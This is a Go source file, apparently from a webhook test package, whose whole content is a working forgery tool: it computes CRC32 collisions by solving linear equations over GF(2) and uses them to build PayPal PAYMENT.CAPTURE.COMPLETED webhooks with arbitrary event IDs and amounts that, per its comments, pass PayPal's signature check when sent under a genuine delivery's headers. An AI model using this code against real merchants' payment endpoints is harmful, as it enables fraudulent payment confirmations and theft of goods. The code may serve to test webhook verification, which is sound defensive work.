package webhooktest

import (
	"bytes"
	"errors"
	"hash/crc32"
	"math/bits"
)

// crcLetters is how many letters [SameCRC32] rewrites: four free bits
// each, 40 unknowns for the 32 bits of a CRC32.
const crcLetters = 10

// crcLetterBits are the bits a letter may flip and stay a letter: from
// 'h', any XOR of them is one of h..o or H..O.
var crcLetterBits = [...]byte{0x01, 0x02, 0x04, 0x20}

// SameCRC32 returns forged with its ten bytes at forged[at:at+10]
// replaced by letters chosen so that its CRC32 (IEEE) is genuine's. PayPal
// signs only the CRC32 of a body, so a body made this way carries a
// genuine delivery's signature: put the ten bytes inside a JSON string
// and the forgery is still valid JSON. CRC32 is affine in the message's
// bits, so the letters are the solution of 32 linear equations over
// GF(2) in the letters' 40 free bits.
func SameCRC32(genuine, forged []byte, at int) ([]byte, error) {
	if at < 0 || at+crcLetters > len(forged) {
		return nil, errors.New("webhooktest: SameCRC32: the ten letters lie outside the body")
	}
	out := bytes.Clone(forged)
	for i := range crcLetters {
		out[at+i] = 'h'
	}
	base := crc32.ChecksumIEEE(out)
	// basis[b] is a combination of flips whose CRC difference has b as
	// its highest bit; flips says which.
	type row struct {
		diff  uint32
		flips uint64
	}
	var basis [32]row
	var have [32]bool
	tmp := bytes.Clone(out)
	for k := range crcLetters * len(crcLetterBits) {
		pos, bit := at+k/len(crcLetterBits), crcLetterBits[k%len(crcLetterBits)]
		tmp[pos] ^= bit
		r := row{diff: crc32.ChecksumIEEE(tmp) ^ base, flips: 1 << k}
		tmp[pos] ^= bit
		for r.diff != 0 {
			high := 31 - bits.LeadingZeros32(r.diff)
			if !have[high] {
				basis[high], have[high] = r, true
				break
			}
			r.diff ^= basis[high].diff
			r.flips ^= basis[high].flips
		}
	}
	want, flips := base^crc32.ChecksumIEEE(genuine), uint64(0)
	for want != 0 {
		high := 31 - bits.LeadingZeros32(want)
		if !have[high] {
			return nil, errors.New("webhooktest: SameCRC32: no letters give that CRC32")
		}
		want ^= basis[high].diff
		flips ^= basis[high].flips
	}
	for k := range crcLetters * len(crcLetterBits) {
		if flips&(1<<k) != 0 {
			out[at+k/len(crcLetterBits)] ^= crcLetterBits[k%len(crcLetterBits)]
		}
	}
	if crc32.ChecksumIEEE(out) != crc32.ChecksumIEEE(genuine) {
		return nil, errors.New("webhooktest: SameCRC32: the solution does not hold")
	}
	return out, nil
}

// PayPalCaptureEvent is PayPal's PAYMENT.CAPTURE.COMPLETED webhook with
// the identity eventID (WH-...) for the capture captureID of value (a
// decimal string, as PayPal writes amounts) in currency, charged to the
// merchant's customID.
func PayPalCaptureEvent(eventID, captureID, value, currency, customID string) []byte {
	return []byte(`{"id":"` + eventID + `","event_version":"1.0","create_time":"2026-11-30T10:00:00Z","resource_type":"capture",` +
		`"event_type":"PAYMENT.CAPTURE.COMPLETED","summary":"Payment completed","resource":{"id":"` + captureID + `","status":"COMPLETED",` +
		`"amount":{"currency_code":"` + currency + `","value":"` + value + `"},"custom_id":"` + customID + `","final_capture":true}}`)
}

// ForgePayPalCapture returns a PayPal capture webhook with the identity
// eventID and the amount value, whose CRC32 is genuine's: sent under the
// headers of the genuine delivery, it passes PayPal's signature check.
// Its summary holds the ten letters solved for.
func ForgePayPalCapture(genuine []byte, eventID, captureID, value, currency, customID string) ([]byte, error) {
	const slot = "Payment completed"
	body := PayPalCaptureEvent(eventID, captureID, value, currency, customID)
	return SameCRC32(genuine, body, bytes.Index(body, []byte(slot)))
}
